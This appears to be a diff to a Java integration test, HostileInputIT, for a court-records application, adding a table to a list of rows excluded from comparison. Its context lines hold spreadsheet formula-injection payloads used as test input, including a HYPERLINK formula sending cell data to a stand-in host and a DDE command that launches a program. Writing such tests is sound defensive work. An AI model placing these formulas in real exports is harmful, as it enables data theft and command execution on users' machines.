@@ -53,7 +53,7 @@ class HostileInputIT {
   static final String HISTORY = "court,court_case_number,first_name,last_name,date_of_birth,sex,state_id,fbi_number,referral_date,outcome,"
       + "exit_date,disposition,disposition_date";
   /** Changed by the server's own timers (mail, reminders), or by the attempts' own audit records: not compared. */
-  static final List<String> MOVING = List.of("security_event", "notice", "notice_aud", "audit_revision", "audit_revision_entity",
+  static final List<String> MOVING = List.of("security_event", "notice", "notice_aud", "audit_revision", "audit_revision_entity", "scheduled_run",
       "flyway_schema_history");
 
   static final String[] TEXT_ATTACKS = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
